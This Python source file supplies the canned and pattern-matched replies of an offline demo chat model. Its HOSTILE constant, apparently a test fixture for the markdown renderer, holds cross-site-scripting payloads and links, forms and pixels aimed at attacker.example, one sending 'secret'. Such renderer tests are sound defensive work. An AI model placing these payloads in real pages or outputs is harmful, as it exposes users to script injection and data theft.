"""What the demo model says. Fixed texts, and a few that are worked out from the message; nothing here is random."""

import json
import math
import re

from convstore.agents.base import Message

TIME_QUESTION = re.compile(
    r"\b(?:what(?:'s| is)?(?: the)?|tell me the|the|current|local)(?: current| local)? time "
    r"(?:is it )?(?:right now |now )?in (?P<place>[\w /+-]{2,40}?),?"
    r"(?: (?:right )?now| at the moment| currently| today| please)*[ ?.!]*$",
    re.I,
)
SUM_QUESTION = re.compile(
    r"\b(?:what(?:'s| is)|calculate|compute|work out|how much is) "
    r"(?P<sum>[-+(]*\d[\d .,()]*[-+*/%^×÷−][-+*/%^×÷−\d .,()]*)",
    re.I,
)
PERCENT_QUESTION = re.compile(
    r"\b(?P<part>\d+(?:\.\d+)?) ?(?:%|percent|per cent) of (?P<whole>\d[\d,]*(?:\.\d+)?)", re.I
)
CONVERSATIONS_QUESTION = re.compile(
    r"\b(?:list|show|what are|which are)\b.*\bmy (?:\w+ )?(?:conversation|chat)s\b", re.I
)
MARKDOWN_QUESTION = re.compile(r"\bmarkdown\b", re.I)
QUESTION_CHARS = 200  # a longer message is not one of these questions, and is not searched for them

PLAIN = "This is the demo model. It answers in two short sentences, always the same ones."

HALF = "This answer starts well enough, goes on for a little while, and is about to come to the point when"

REASONING = (
    "The person wants to see reasoning. First I look at what was asked. Then I weigh two ways of answering: a long one "
    "and a short one. The short one says the same in fewer words."
)
REASONED = "I thought about it, and the short answer is: **yes**."

ERRORS: dict[str, tuple[str, float | None]] = {
    "401": ("The model's server refused the API key. Check OPENAI_API_KEY.", None),
    "404": ("The model's server does not know this model. Check CHAT_MODEL.", None),
    "429": ("The model's server is busy. Try again in 5 seconds.", 5.0),
    "500": ("The model's server has a fault of its own (500). Press Retry in a moment.", None),
}

MARKDOWN = """\
## What markdown looks like here

A paragraph with **bold**, *italic*, ~~struck~~ text, `inline code` and [a link](https://example.org).

1. First, an ordered list
2. with two entries
   - and a nested one

> A quote, which may well run over more than one line on a narrow screen.

```python
def greet(name: str) -> str:
    return f"Hello, {name}! This line is long on purpose, so that the code scrolls sideways and the page does not."
```

| Database | Good for | Instances | Set up with | Backup | Largest we tried | Remark |
|---|---|---:|---|---|---:|---|
| SQLite | one machine | 1–4 | nothing | copy the file | 100,000 messages | the default |
| PostgreSQL | many machines | any number | `DATABASE_URL` | `pg_dump` | 10,000,000 messages | through a pool |

- [x] done
- [ ] to do
"""

HOSTILE = """\
Harmless text first. <script>window.harmed = 1</script>
<img src="x" onerror="window.harmed = 2"> ![](https://attacker.example/pixel.png?q=secret)
[click me](javascript:window.harmed=3) <a href="data:text/html,<script>1</script>">or me</a>
<form action="https://attacker.example"><input name="password"></form>
<style>body { background: url(https://attacker.example/style) }</style>
<iframe src="https://attacker.example"></iframe> ${window.harmed=4} {{7*7}}
Harmless text last.
"""


def without_commas(text: str) -> str:
    """Numbers as a calculator takes them: 2,340 is 2340."""
    return re.sub(r"(?<=\d),(?=\d{3}(?!\d))", "", text).rstrip(" ,.")


def pieces(text: str) -> list[str]:
    """The text cut after each word; joined again it is the text."""
    return re.findall(r"\s*\S+\s*|\s+", text)


def number(text: str, default: float, most: float) -> float:
    """The number at the start of `text`, at most `most`; else the default."""
    found = re.match(r"\d+(?:\.\d+)?", text)
    return min(float(found[0]), most) if found else default


def slow_parts(seconds: float) -> list[str]:
    """Numbered words for /slow, ten a second, so that a missing or doubled one shows."""
    count = max(10, math.ceil(seconds * 10))
    return [f"word {n} of {count}{'.' if n == count else ', '}" for n in range(1, count + 1)]


def numbered_words(count: int) -> str:
    """So many numbered words, in paragraphs of a hundred."""
    words = [f"w{n}" for n in range(1, count + 1)]
    return "\n\n".join(" ".join(words[start : start + 100]) for start in range(0, count, 100))


def listed(result: str) -> str:
    """The result of `my_conversations` as a list to read."""
    found = json.loads(result)
    if not found:
        return "There are no other conversations yet."
    lines = (f"- {item.get('title') or 'Untitled'}" for item in found)
    return "Your newest conversations:\n\n" + "\n".join(lines)


def reply(asked: str, messages: list[Message]) -> str:
    """The answer to anything that is no scenario: what was said, and how much of the past came with it."""
    asked_at = max((n for n, message in enumerate(messages) if message.role == "user"), default=0)
    earlier = sum(message.role != "system" for message in messages[:asked_at])
    count = {0: "no earlier messages", 1: "1 earlier message"}.get(earlier, f"{earlier} earlier messages")
    quoted = "\n".join(f"> {line}" for line in asked[:2000].splitlines()) or "> (nothing)"
    return (
        f"You wrote:\n\n{quoted}\n\n"
        f"With it I was given **{count}** of this conversation. I am the demo model: I work offline and do not "
        "understand what I read, but everything around me is real, and this answer is being kept.\n\n"
        "Try one of these:\n\n"
        "- *What time is it in Tokyo?*\n"
        "- *What is 17% of 2,340?*\n"
        "- *Explain how a hash map works*\n"
        "- *Show me markdown*\n\n"
        "To talk to a real model, set `OPENAI_API_KEY` (or `OPENAI_BASE_URL`) and start again."
    )
